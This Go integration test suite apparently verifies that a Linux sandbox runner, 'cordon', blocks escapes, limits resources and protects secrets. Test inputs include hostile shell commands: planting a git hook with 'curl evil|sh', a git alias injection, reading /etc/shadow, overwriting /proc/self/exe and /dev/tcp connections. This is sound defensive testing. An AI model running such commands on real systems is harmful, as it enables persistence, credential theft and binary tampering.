package linux_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/cordon-run/cordon/internal/testenv"
	"github.com/cordon-run/cordon/mounts"
	"github.com/cordon-run/cordon/runner"
	runnerlinux "github.com/cordon-run/cordon/runner/linux"
	"github.com/cordon-run/cordon/spec"
)

// TestMain carries libcontainer's init hook: this test binary re-executes
// itself as the container's init.
func TestMain(m *testing.M) {
	runnerlinux.Init()
	if os.Getenv("CORDON_TEST_HELPER") == "run-forever" {
		helperRunForever()
		return
	}
	code := m.Run()
	if stateRoot != "" {
		// Every run cleaned up after itself; what is left is the shared
		// layout (lc, runs, placeholders, the seccomp cache).
		if err := os.RemoveAll(stateRoot); err != nil {
			fmt.Fprintf(os.Stderr, "remove the test state directory: %v\n", err)
			code = 1
		}
	}
	os.Exit(code)
}

func isRoot() bool { return os.Geteuid() == 0 }

func newSandbox(t *testing.T) *spec.Sandbox {
	t.Helper()
	testenv.RequireSandbox(t)
	root := t.TempDir()
	return &spec.Sandbox{
		Root:             root,
		System:           spec.System{Kind: spec.SystemHost},
		RequireOSSandbox: true,
		Env:              spec.Env{Pass: []string{"PATH"}},
		Protect:          []string{filepath.Join(root, ".git/hooks"), filepath.Join(root, ".git/config")},
	}
}

type runOut struct {
	res            runner.Result
	stdout, stderr string
}

func run(t *testing.T, sb *spec.Sandbox, stdin string, args ...string) runOut {
	t.Helper()
	r, err := runnerlinux.New(runner.Options{StateDir: stateDir(t)})
	if err != nil {
		t.Fatalf("runner.New: %v", err)
	}
	var so, se bytes.Buffer
	req := runner.Request{Sandbox: sb, Args: args, Stdout: &so, Stderr: &se}
	if stdin != "" {
		req.Stdin = strings.NewReader(stdin)
	}
	res, err := r.Run(context.Background(), req)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	t.Logf("%v -> exit %d %s %q; stderr: %s", args, res.ExitCode, res.FailureType, res.FailureDetail, se.String())
	return runOut{res, so.String(), se.String()}
}

var (
	stateOnce sync.Once
	stateRoot string
)

// stateDir is one state directory for the whole test binary, so that tests
// also exercise concurrent runs sharing it.
func stateDir(t *testing.T) string {
	stateOnce.Do(func() {
		d, err := os.MkdirTemp("", "cordon-state-")
		if err != nil {
			panic(err)
		}
		stateRoot = d
	})
	return stateRoot
}

func sh(script string) []string { return []string{"/bin/sh", "-c", script} }

// mustBeEmptyDir: p is absent or an empty directory (a directory the
// command may make; nothing in it).
func mustBeEmptyDir(t *testing.T, p string) {
	t.Helper()
	ents, err := os.ReadDir(p)
	if err != nil && !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("%s: %v", p, err)
	}
	if len(ents) != 0 {
		t.Fatalf("%s holds %v after the run: the sandbox let it through", p, ents)
	}
}

func mustNotExist(t *testing.T, p string) {
	t.Helper()
	if _, err := os.Lstat(p); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("%s exists on the host after the run (err=%v): the sandbox let it through", p, err)
	}
}

func TestIntegrationRunsAndStreams(t *testing.T) {
	sb := newSandbox(t)
	out := run(t, sb, "hello from stdin\n", "/bin/cat")
	if out.res.ExitCode != 0 || out.res.FailureType != runner.FailureNone {
		t.Fatalf("cat failed: %+v", out.res)
	}
	if out.stdout != "hello from stdin\n" {
		t.Fatalf("stdout = %q", out.stdout)
	}
}

func TestIntegrationExitCodes(t *testing.T) {
	sb := newSandbox(t)
	if err := os.WriteFile(filepath.Join(sb.Root, "notexec"), []byte("#!/bin/sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name string
		args []string
		code int
		ft   runner.FailureType
	}{
		{"own status", sh("exit 3"), 3, runner.FailureProcessError},
		{"not found", []string{"no-such-command-cordon"}, 127, runner.FailureProcessError},
		{"not executable", []string{filepath.Join(sb.Root, "notexec")}, 126, runner.FailureProcessError},
		{"success", []string{"true"}, 0, runner.FailureNone},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out := run(t, sb, "", tc.args...)
			if out.res.ExitCode != tc.code || out.res.FailureType != tc.ft {
				t.Fatalf("got exit %d %s, want %d %s", out.res.ExitCode, out.res.FailureType, tc.code, tc.ft)
			}
		})
	}
}

func TestIntegrationWriteOutsideRWMounts(t *testing.T) {
	sb := newSandbox(t)
	outside := t.TempDir() // a host dir the sandbox does not mount
	cases := []struct{ name, path string }{
		{"system dir", "/usr/cordon-escape-" + strconv.Itoa(os.Getpid())},
		{"unmounted host dir", filepath.Join(outside, "x")},
		{"etc", "/etc/cordon-escape-" + strconv.Itoa(os.Getpid())},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			out := run(t, sb, "", sh("echo pwned > "+tc.path)...)
			if out.res.ExitCode == 0 {
				t.Fatalf("write to %s succeeded", tc.path)
			}
			if out.res.FailureType != runner.FailureSandboxDenied || out.res.BlockedPath != tc.path {
				t.Fatalf("want sandbox_denied on %s, got %s %q (%s)", tc.path, out.res.FailureType, out.res.BlockedPath, out.res.FailureDetail)
			}
			if !strings.Contains(out.res.FailureDetail, sb.Root) {
				t.Fatalf("the message must say what IS writable (%s): %q", sb.Root, out.res.FailureDetail)
			}
			mustNotExist(t, tc.path)
		})
	}
}

func TestIntegrationWorkspaceDataIntact(t *testing.T) {
	sb := newSandbox(t)
	keep := filepath.Join(sb.Root, "keep.txt")
	if err := os.WriteFile(keep, []byte("precious\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out := run(t, sb, "", sh("mkdir -p sub && echo written > sub/new.txt && cat keep.txt")...)
	if out.res.ExitCode != 0 || out.stdout != "precious\n" {
		t.Fatalf("run failed: %+v stdout=%q", out.res, out.stdout)
	}
	data, err := os.ReadFile(filepath.Join(sb.Root, "sub/new.txt"))
	if err != nil || string(data) != "written\n" {
		t.Fatalf("written file: %q %v", data, err)
	}
	if b, _ := os.ReadFile(keep); string(b) != "precious\n" {
		t.Fatalf("existing file changed: %q", b)
	}
	fi, err := os.Stat(filepath.Join(sb.Root, "sub/new.txt"))
	if err != nil {
		t.Fatal(err)
	}
	if st := fi.Sys().(*syscall.Stat_t); int(st.Uid) != os.Getuid() || int(st.Gid) != os.Getgid() {
		t.Fatalf("file written in the sandbox belongs to %d:%d, want the caller %d:%d", st.Uid, st.Gid, os.Getuid(), os.Getgid())
	}
}

func TestIntegrationReadonlyMount(t *testing.T) {
	sb := newSandbox(t)
	ro := t.TempDir()
	if err := os.WriteFile(filepath.Join(ro, "data"), []byte("orig"), 0o644); err != nil {
		t.Fatal(err)
	}
	sb.Mounts = []spec.Mount{{Source: ro, Target: ro, Readonly: true, Name: "data"}}
	out := run(t, sb, "", sh("cat "+ro+"/data && echo changed > "+ro+"/data")...)
	if out.res.ExitCode == 0 || out.stdout != "orig" {
		t.Fatalf("read-only mount: %+v stdout=%q", out.res, out.stdout)
	}
	if out.res.FailureType != runner.FailureSandboxDenied || out.res.BlockedPath != ro+"/data" {
		t.Fatalf("want sandbox_denied on %s/data: %+v", ro, out.res)
	}
	if b, _ := os.ReadFile(filepath.Join(ro, "data")); string(b) != "orig" {
		t.Fatalf("read-only file changed: %q", b)
	}
	out = run(t, sb, "", sh("touch "+ro+"/new")...)
	if out.res.ExitCode == 0 {
		t.Fatal("created a file in a read-only mount")
	}
	mustNotExist(t, filepath.Join(ro, "new"))
}

func TestIntegrationReadonlySubmounts(t *testing.T) {
	testenv.RequireRoot(t)
	sb := newSandbox(t)
	ro := t.TempDir()
	sub := filepath.Join(ro, "sub")
	if err := os.Mkdir(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mount("tmpfs", sub, "tmpfs", 0, "size=1m"); err != nil {
		t.Fatalf("mount host submount: %v", err)
	}
	t.Cleanup(func() { _ = syscall.Unmount(sub, syscall.MNT_DETACH) })
	sb.Mounts = []spec.Mount{{Source: ro, Target: ro, Readonly: true}}
	out := run(t, sb, "", sh("echo x > "+sub+"/escaped")...)
	if out.res.ExitCode == 0 {
		t.Fatal("wrote into a submount of a read-only mount")
	}
	mustNotExist(t, filepath.Join(sub, "escaped"))
}

func TestIntegrationDenyAndProtect(t *testing.T) {
	sb := newSandbox(t)
	secret := filepath.Join(sb.Root, ".env")
	if err := os.WriteFile(secret, []byte("TOKEN=hunter2\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	secretsDir := filepath.Join(sb.Root, "secrets")
	if err := os.Mkdir(secretsDir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(secretsDir, "key"), []byte("KEY"), 0o600); err != nil {
		t.Fatal(err)
	}
	sb.Deny = []string{secret, secretsDir}
	// .git/hooks and .git/config are protected (newSandbox) and missing.

	t.Run("deny hides content", func(t *testing.T) {
		out := run(t, sb, "", sh("cat .env; ls secrets; cat secrets/key")...)
		if strings.Contains(out.stdout, "hunter2") || strings.Contains(out.stdout, "KEY") {
			t.Fatalf("denied content leaked: %q", out.stdout)
		}
	})
	t.Run("deny is unwritable", func(t *testing.T) {
		out := run(t, sb, "", sh("echo evil > .env")...)
		if out.res.ExitCode == 0 {
			t.Fatal("wrote to a denied file")
		}
		if b, _ := os.ReadFile(secret); string(b) != "TOKEN=hunter2\n" {
			t.Fatalf("denied file changed: %q", b)
		}
		out = run(t, sb, "", sh("echo evil > secrets/new")...)
		if out.res.ExitCode == 0 {
			t.Fatal("wrote into a denied directory")
		}
		mustNotExist(t, filepath.Join(secretsDir, "new"))
	})
	t.Run("protect missing at start", func(t *testing.T) {
		hook := filepath.Join(sb.Root, ".git/hooks/pre-commit")
		out := run(t, sb, "", sh("mkdir -p .git/hooks; echo 'curl evil|sh' > .git/hooks/pre-commit")...)
		if out.res.ExitCode == 0 {
			t.Fatal("created a hook in a protected path")
		}
		if out.res.FailureType != runner.FailureSandboxDenied {
			t.Fatalf("want sandbox_denied: %+v", out.res)
		}
		mustNotExist(t, hook)
		// The broker refused the hook itself: only what the command
		// created (.git and an empty hooks directory, as git's templates
		// need) is there, nothing of cordon's.
		mustBeEmptyDir(t, filepath.Join(sb.Root, ".git/hooks"))
		if out.res.BlockedPath != hook {
			t.Fatalf("blocked path %q, want the hook", out.res.BlockedPath)
		}
		if err := os.RemoveAll(filepath.Join(sb.Root, ".git")); err != nil {
			t.Fatal(err)
		}
	})
	t.Run("protect existing is readable not writable", func(t *testing.T) {
		cfg := filepath.Join(sb.Root, ".git/config")
		if err := os.MkdirAll(filepath.Dir(cfg), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(cfg, []byte("[core]\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		out := run(t, sb, "", sh("cat .git/config && echo '[alias] x = !evil' >> .git/config")...)
		if out.res.ExitCode == 0 || out.stdout != "[core]\n" {
			t.Fatalf("protect: %+v stdout=%q", out.res, out.stdout)
		}
		if b, _ := os.ReadFile(cfg); string(b) != "[core]\n" {
			t.Fatalf("protected file changed: %q", b)
		}
		// Renaming a parent away must not defeat the protection either.
		out = run(t, sb, "", sh("mv .git .git-moved && echo evil > .git-moved/config")...)
		if b, _ := os.ReadFile(cfg); string(b) != "[core]\n" {
			t.Fatalf("protected file changed through a rename: %q", b)
		}
		mustNotExist(t, filepath.Join(sb.Root, ".git-moved"))
	})
}

func TestIntegrationSymlinksOut(t *testing.T) {
	sb := newSandbox(t)
	if err := os.Symlink("/etc", filepath.Join(sb.Root, "l")); err != nil {
		t.Fatal(err)
	}
	outside := t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "secret"), []byte("outside-secret"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(sb.Root, "r")); err != nil {
		t.Fatal(err)
	}
	out := run(t, sb, "", sh("echo x > l/cordon-escape")...)
	if out.res.ExitCode == 0 {
		t.Fatal("wrote through a symlink to /etc")
	}
	mustNotExist(t, "/etc/cordon-escape")
	out = run(t, sb, "", sh("cat r/secret; echo x > r/new")...)
	if strings.Contains(out.stdout, "outside-secret") {
		t.Fatal("read through a symlink out of the sandbox")
	}
	mustNotExist(t, filepath.Join(outside, "new"))
}

func TestIntegrationNetworkOff(t *testing.T) {
	sb := newSandbox(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var mu sync.Mutex
	accepted := 0
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			accepted++
			mu.Unlock()
			c.Close()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	out := run(t, sb, "", "/bin/bash", "-c", fmt.Sprintf("echo hi > /dev/tcp/127.0.0.1/%d", port))
	if out.res.ExitCode == 0 {
		t.Fatal("connected to a host loopback listener with network: false")
	}
	mu.Lock()
	defer mu.Unlock()
	if accepted != 0 {
		t.Fatalf("the host listener accepted %d connections", accepted)
	}
	if out.res.FailureType != runner.FailureSandboxDenied && !strings.Contains(out.stderr, "refused") {
		t.Fatalf("unexpected failure: %+v", out.res)
	}
}

func TestIntegrationPidIsolation(t *testing.T) {
	sb := newSandbox(t)
	out := run(t, sb, "", sh("echo $$; test -e /proc/"+strconv.Itoa(os.Getpid())+" && echo HOST\"\"PID-VISIBLE; tr '\\0' ' ' < /proc/1/cmdline; echo; ls /proc | grep -c '^[0-9]'")...)
	if out.res.ExitCode != 0 {
		t.Fatalf("run failed: %+v", out.res)
	}
	lines := strings.Split(strings.TrimSpace(out.stdout), "\n")
	if len(lines) < 3 {
		t.Fatalf("unexpected output %q", out.stdout)
	}
	if pid, _ := strconv.Atoi(lines[0]); pid < 2 || pid > 64 {
		t.Fatalf("the command should run early in its own PID namespace, under cordon's init: pid %q", lines[0])
	}
	if !strings.Contains(lines[1], "cordon-sandbox-init") {
		t.Fatalf("PID 1 of the sandbox should be cordon's init, got %q", lines[1])
	}
	if strings.Contains(out.stdout, "HOSTPID-VISIBLE") {
		t.Fatal("a host process is visible in the sandbox")
	}
	if n, _ := strconv.Atoi(lines[len(lines)-1]); n > 5 {
		t.Fatalf("%d processes visible in the sandbox", n)
	}
}

func TestIntegrationForkBombVsPids(t *testing.T) {
	sb := newSandbox(t)
	sb.Limits.Pids = 32
	sb.Limits.Timeout = 20 * time.Second
	script := "i=0; while [ $i -lt 200 ]; do sleep 30 & i=$((i+1)); done; echo spawned-all"
	if !isRoot() {
		out := run(t, sb, "", sh(script)...)
		if out.res.FailureType != runner.FailureSetupError || out.res.ExitCode != runner.ExitSetupError {
			t.Fatalf("rootless with a pids limit must fail closed: %+v", out.res)
		}
		return
	}
	out := run(t, sb, "", sh(script)...)
	if strings.Contains(out.stdout, "spawned-all") && out.res.ExitCode == 0 {
		t.Fatalf("200 processes spawned under pids=32")
	}
	if !strings.Contains(strings.ToLower(out.stderr), "resource temporarily unavailable") && !strings.Contains(out.stderr, "fork") {
		t.Fatalf("expected fork failures on stderr, got %q", out.stderr)
	}
}

func TestIntegrationMemoryOOM(t *testing.T) {
	sb := newSandbox(t)
	sb.Limits.Memory = 32 << 20
	sb.Limits.Timeout = 60 * time.Second
	hog := []string{"python3", "-c", "b = bytearray(256 * 1024 * 1024); print('allocated')"}
	if !isRoot() {
		out := run(t, sb, "", hog...)
		if out.res.FailureType != runner.FailureSetupError {
			t.Fatalf("rootless with a memory limit must fail closed: %+v", out.res)
		}
		sb.RequireOSSandbox = false
		out = run(t, sb, "", "true")
		if out.res.ExitCode != 0 || len(out.res.Unenforced) == 0 || !strings.Contains(out.stderr, "not enforced") {
			t.Fatalf("degraded run must say what was not enforced: %+v stderr=%q", out.res, out.stderr)
		}
		return
	}
	out := run(t, sb, "", hog...)
	if out.res.FailureType != runner.FailureOOM {
		t.Fatalf("want oom, got %+v stdout=%q", out.res, out.stdout)
	}
	if strings.Contains(out.stdout, "allocated") {
		t.Fatal("the allocation succeeded")
	}
}

// sandboxedSleepers counts host processes whose command line carries marker.
func sandboxedSleepers(marker string) int {
	n := 0
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err == nil && bytes.Contains(b, []byte(marker)) {
			n++
		}
	}
	return n
}

func TestIntegrationTimeoutKillsDescendants(t *testing.T) {
	sb := newSandbox(t)
	sb.Limits.Timeout = 1500 * time.Millisecond
	marker := "1000." + strconv.Itoa(os.Getpid())
	script := fmt.Sprintf("setsid sleep %s & (sleep %s &) & nohup sleep %s >/dev/null 2>&1 & sleep %s", marker, marker, marker, marker)
	start := time.Now()
	out := run(t, sb, "", sh(script)...)
	t.Logf("returned after %s", time.Since(start))
	if out.res.FailureType != runner.FailureTimeout || out.res.ExitCode != runner.ExitTimeout {
		t.Fatalf("want timeout/124, got %+v", out.res)
	}
	if n := sandboxedSleepers(marker); n != 0 {
		t.Fatalf("%d sandboxed processes survived the timeout", n)
	}
}

func TestIntegrationNoFDLeak(t *testing.T) {
	sb := newSandbox(t)
	// An inheritable descriptor in cordon's process must not reach the sandbox.
	fd, err := syscall.Open("/etc/hostname", syscall.O_RDONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer syscall.Close(fd)
	out := run(t, sb, "", sh("ls /proc/self/fd")...)
	if out.res.ExitCode != 0 {
		t.Fatalf("run failed: %+v", out.res)
	}
	for _, f := range strings.Fields(out.stdout) {
		n, _ := strconv.Atoi(f)
		if n > 3 { // 0-2 stdio, 3 is ls's own directory handle
			t.Fatalf("descriptor %d leaked into the sandbox: %q", n, out.stdout)
		}
	}
}

func TestIntegrationSecretsMasked(t *testing.T) {
	sb := newSandbox(t)
	out := run(t, sb, "", sh("cat /etc/shadow; ls /root; ls /home")...)
	if strings.Contains(out.stdout, "root:") {
		t.Fatalf("/etc/shadow readable: %q", out.stdout)
	}
	if host, err := os.ReadDir("/root"); err == nil && len(host) > 0 {
		for _, e := range host {
			if strings.Contains(out.stdout, e.Name()) && e.Name() != "" && len(e.Name()) > 3 {
				t.Fatalf("/root content %q visible in the sandbox: %q", e.Name(), out.stdout)
			}
		}
	}
}

func TestIntegrationProcSelfExeCannotBeOverwritten(t *testing.T) {
	sb := newSandbox(t)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	before := fileHash(t, self)
	out := run(t, sb, "", sh("echo pwned > /proc/self/exe; for p in /proc/[0-9]*; do echo pwned > $p/exe; done; true")...)
	if out.res.ExitCode != 0 {
		t.Logf("run: %+v", out.res)
	}
	if after := fileHash(t, self); after != before {
		t.Fatal("the host binary changed")
	}
}

func fileHash(t *testing.T, p string) [32]byte {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return sha256.Sum256(b)
}

func TestIntegrationConcurrentRuns(t *testing.T) {
	sb := newSandbox(t)
	var wg sync.WaitGroup
	errs := make(chan string, 8)
	for i := 0; i < 6; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			r, err := runnerlinux.New(runner.Options{StateDir: stateDir(t)})
			if err != nil {
				errs <- err.Error()
				return
			}
			var so bytes.Buffer
			res, err := r.Run(context.Background(), runner.Request{Sandbox: sb, Args: sh(fmt.Sprintf("echo %d > f%d && cat f%d", i, i, i)), Stdout: &so})
			if err != nil || res.ExitCode != 0 || strings.TrimSpace(so.String()) != strconv.Itoa(i) {
				errs <- fmt.Sprintf("run %d: %v %+v %q", i, err, res, so.String())
			}
		}(i)
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Error(e)
	}
}

// helperRunForever is the body of a child process that runs a long sandboxed
// command and is then SIGKILLed by TestIntegrationLeftoversAfterSIGKILL.
func helperRunForever() {
	sb := &spec.Sandbox{
		Root:             os.Getenv("CORDON_TEST_ROOT"),
		System:           spec.System{Kind: spec.SystemHost},
		RequireOSSandbox: true,
		Env:              spec.Env{Pass: []string{"PATH"}},
		Protect:          []string{filepath.Join(os.Getenv("CORDON_TEST_ROOT"), ".git/hooks")},
	}
	r, err := runnerlinux.New(runner.Options{StateDir: os.Getenv("CORDON_TEST_STATE")})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(3)
	}
	_, _ = r.Run(context.Background(), runner.Request{Sandbox: sb, Args: sh("touch started; exec sleep " + os.Getenv("CORDON_TEST_MARKER")), Stdout: os.Stdout, Stderr: os.Stderr})
	os.Exit(0)
}

func TestIntegrationLeftoversAfterSIGKILL(t *testing.T) {
	sb := newSandbox(t)
	state, err := os.MkdirTemp("", "cordon-killed-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(state)
	marker := "2000." + strconv.Itoa(os.Getpid())
	cmd := exec.Command(os.Args[0], "-test.run", "^$")
	cmd.Env = append(os.Environ(), "CORDON_TEST_HELPER=run-forever", "CORDON_TEST_ROOT="+sb.Root,
		"CORDON_TEST_STATE="+state, "CORDON_TEST_MARKER="+marker)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	started := filepath.Join(sb.Root, "started")
	for i := 0; ; i++ {
		if _, err := os.Stat(started); err == nil && sandboxedSleepers(marker) > 0 {
			break
		}
		if i > 600 {
			_ = cmd.Process.Kill()
			t.Fatalf("the sandboxed command never started: %s", stderr.String())
		}
		time.Sleep(50 * time.Millisecond)
	}
	runs, _ := os.ReadDir(filepath.Join(state, "runs"))
	if len(runs) != 1 {
		t.Fatalf("want one run dir while running, got %d", len(runs))
	}
	id := runs[0].Name()
	if err := cmd.Process.Signal(syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait()
	// The sandbox dies with cordon (parent-death signal + PID namespace).
	for i := 0; sandboxedSleepers(marker) > 0; i++ {
		if i > 200 {
			t.Fatal("the sandboxed command survived the SIGKILL of cordon")
		}
		time.Sleep(50 * time.Millisecond)
	}
	// The next run cleans up what the killed one left behind.
	r, err := runnerlinux.New(runner.Options{StateDir: state})
	if err != nil {
		t.Fatal(err)
	}
	if res, err := r.Run(context.Background(), runner.Request{Sandbox: sb, Args: []string{"true"}}); err != nil || res.ExitCode != 0 {
		t.Fatalf("next run: %v %+v", err, res)
	}
	for _, p := range []string{filepath.Join(state, "runs", id), filepath.Join(state, "lc", id)} {
		mustNotExist(t, p)
	}
	if isRoot() {
		for _, ctrl := range []string{"memory", "pids", "cpu", "freezer"} {
			mustNotExist(t, filepath.Join("/sys/fs/cgroup", ctrl, "cordon", id))
		}
	}
	mustNotExist(t, filepath.Join(sb.Root, ".git"))
	if left, _ := os.ReadDir(filepath.Join(state, "runs")); len(left) != 0 {
		t.Fatalf("run dirs left behind: %v", left)
	}
}

// TestIntegrationPlaceholderThroughSymlinkRefused is the security property
// "cordon never creates anything on the host through a workspace symlink":
// a protect path missing at start whose parent is a symlink out of the
// workspace makes the run fail closed, and nothing appears at the target.
func TestIntegrationPlaceholderThroughSymlinkRefused(t *testing.T) {
	sb := newSandbox(t)
	outside := t.TempDir()
	if err := os.Symlink(outside, filepath.Join(sb.Root, ".git")); err != nil {
		t.Fatal(err)
	}
	out := run(t, sb, "", "true")
	if out.res.FailureType != runner.FailureSetupError || out.res.ExitCode != runner.ExitSetupError {
		t.Fatalf("want a refused run, got %+v", out.res)
	}
	if !strings.Contains(out.res.FailureDetail, "symlink") {
		t.Fatalf("the refusal must name the symlink: %q", out.res.FailureDetail)
	}
	if ents, _ := os.ReadDir(outside); len(ents) != 0 {
		t.Fatalf("cordon created %v outside the workspace", ents)
	}
}

// TestIntegrationConcurrentRunsKeepProtection is the security property
// "a run's protection does not depend on other runs": a short run on the
// same workspace finishing while a long one still runs must not remove the
// placeholder the long one relies on (which would detach its read-only
// mount), so the long one still cannot plant a hook.
func TestIntegrationConcurrentRunsKeepProtection(t *testing.T) {
	sb := newSandbox(t)
	r, err := runnerlinux.New(runner.Options{StateDir: stateDir(t)})
	if err != nil {
		t.Fatal(err)
	}
	file := func(name string) string { return filepath.Join(sb.Root, name) }
	waitFor := func(p string) {
		t.Helper()
		for i := 0; ; i++ {
			if _, err := os.Stat(p); err == nil {
				return
			}
			if i > 1200 {
				t.Fatalf("%s never appeared", p)
			}
			time.Sleep(25 * time.Millisecond)
		}
	}
	start := func(script string, stderr *bytes.Buffer) chan runner.Result {
		c := make(chan runner.Result, 1)
		go func() {
			res, _ := r.Run(context.Background(), runner.Request{Sandbox: sb, Args: sh(script), Stderr: stderr})
			c <- res
		}()
		return c
	}
	// The first run creates the placeholders and waits.
	var firstErr, longErr bytes.Buffer
	first := start("touch first-started; while [ ! -e go-first ]; do sleep 0.05; done", &firstErr)
	waitFor(file("first-started"))
	// The long run starts while they exist, so it creates none of its own.
	long := start("touch long-started; while [ ! -e go-long ]; do sleep 0.05; done; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit", &longErr)
	waitFor(file("long-started"))
	// The first run ends: it must not take the placeholders away.
	if err := os.WriteFile(file("go-first"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if res := <-first; res.ExitCode != 0 {
		t.Fatalf("first run: %+v %s", res, firstErr.String())
	}
	if err := os.WriteFile(file("go-long"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	res := <-long
	if res.ExitCode == 0 {
		t.Fatalf("the long run planted a hook after the first run ended: %s", longErr.String())
	}
	mustNotExist(t, file(".git/hooks/pre-commit"))
	mustBeEmptyDir(t, file(".git/hooks"))
}

// TestIntegrationSeccompAndNoPrivileges is the security property "the
// command runs under the seccomp filter, with no capabilities and
// no_new_privs": namespace and mount syscalls fail, and /proc/self/status
// says so.
func TestIntegrationSeccompAndNoPrivileges(t *testing.T) {
	sb := newSandbox(t)
	out := run(t, sb, "", sh("grep -E '^(Seccomp|NoNewPrivs|CapEff|CapBnd):' /proc/self/status; "+
		"unshare -U true && echo UNSHARE-OK; mount -t tmpfs none /tmp && echo MOUNT-OK; "+
		"env | grep -c _CORDON_ || true")...)
	for _, want := range []string{"Seccomp:\t2", "NoNewPrivs:\t1", "CapEff:\t0000000000000000", "CapBnd:\t0000000000000000"} {
		if !strings.Contains(out.stdout, want) {
			t.Errorf("missing %q in %q", want, out.stdout)
		}
	}
	for _, bad := range []string{"UNSHARE-OK", "MOUNT-OK"} {
		if strings.Contains(out.stdout, bad) {
			t.Errorf("%s: the sandbox could do it", bad)
		}
	}
	if !strings.HasSuffix(strings.TrimSpace(out.stdout), "0") {
		t.Errorf("cordon's hand-over variables leaked into the command's environment: %q", out.stdout)
	}
}

// TestIntegrationStateDirNeverMounted is the security property "a sandbox
// never sees cordon's state": a mount that covers the state directory is
// refused before anything runs, and the command leaves no trace there.
func TestIntegrationStateDirNeverMounted(t *testing.T) {
	sb := newSandbox(t)
	state := stateDir(t)
	sb.Mounts = []spec.Mount{{Source: filepath.Dir(state), Target: filepath.Dir(state)}}
	marker := filepath.Join(state, "planted-by-sandbox")
	out := run(t, sb, "", sh("touch "+marker)...)
	if out.res.FailureType != runner.FailureSetupError || !strings.Contains(out.res.FailureDetail, "state directory") {
		t.Fatalf("want a refusal naming the state directory, got %+v", out.res)
	}
	mustNotExist(t, marker)
}

// TestIntegrationInitCannotBeHeldOrPreloaded covers cordon's PID 1: the
// command cannot open the init's liveness pipe through /proc (which would
// let the sandbox outlive cordon) or read its environment, and LD_* reach
// the command without being applied to the init.
func TestIntegrationInitCannotBeHeldOrPreloaded(t *testing.T) {
	sb := newSandbox(t)
	sb.Env.Set = map[string]string{"LD_LIBRARY_PATH": "/nonexistent-cordon"}
	out := run(t, sb, "", sh("(exec 7>/proc/1/fd/3 && echo HELD); cat /proc/1/environ >/dev/null 2>&1 && echo ENVIRON; echo lib=$LD_LIBRARY_PATH; env | grep -c _CORDON_ || true")...)
	if strings.Contains(out.stdout, "HELD") || strings.Contains(out.stdout, "ENVIRON") {
		t.Fatalf("the command reached its init's fds or environment: %q", out.stdout)
	}
	if !strings.Contains(out.stdout, "lib=/nonexistent-cordon") {
		t.Fatalf("LD_LIBRARY_PATH did not reach the command: %q", out.stdout)
	}
	if !strings.HasSuffix(strings.TrimSpace(out.stdout), "\n0") && strings.TrimSpace(out.stdout) != "0" {
		if !strings.HasSuffix(strings.TrimSpace(out.stdout), "0") {
			t.Fatalf("hand-over variables leaked: %q", out.stdout)
		}
	}
}

// TestIntegrationSwappedSourceRefused is the security property "a mount
// source cannot be redirected by the sandbox": a command swaps a mount's
// source (inside its writable workspace) for a symlink to a host directory;
// the next run and the file tools refuse it, and nothing reaches that
// directory. The same holds for a worker's restricted root swapped by the
// parent's command.
func TestIntegrationSwappedSourceRefused(t *testing.T) {
	sb := newSandbox(t)
	outside := t.TempDir()
	data := filepath.Join(sb.Root, "data")
	if err := os.Mkdir(data, 0o755); err != nil {
		t.Fatal(err)
	}
	sb.Mounts = []spec.Mount{{Source: data, Target: "/data"}}
	out := run(t, sb, "", sh("mv data data2 && ln -s "+outside+" data")...)
	if out.res.ExitCode != 0 {
		t.Fatalf("swap: %+v", out.res)
	}
	out = run(t, sb, "", sh("echo planted > /data/planted")...)
	if out.res.FailureType != runner.FailureSetupError || !strings.Contains(out.res.FailureDetail, "symlink") {
		t.Fatalf("a swapped source must be refused: %+v", out.res)
	}
	mustNotExist(t, filepath.Join(outside, "planted"))
	table, err := mounts.New(sb)
	if err != nil {
		t.Fatal(err)
	}
	if err := table.Write("/data/tool-planted", "x"); !errors.Is(err, mounts.ErrUnsafeSource) {
		t.Fatalf("file tool through a swapped source: want ErrUnsafeSource, got %v", err)
	}
	mustNotExist(t, filepath.Join(outside, "tool-planted"))

	// A worker restricted to src/: the parent's command swaps src.
	parent := newSandbox(t)
	if err := os.Mkdir(filepath.Join(parent.Root, "src"), 0o755); err != nil {
		t.Fatal(err)
	}
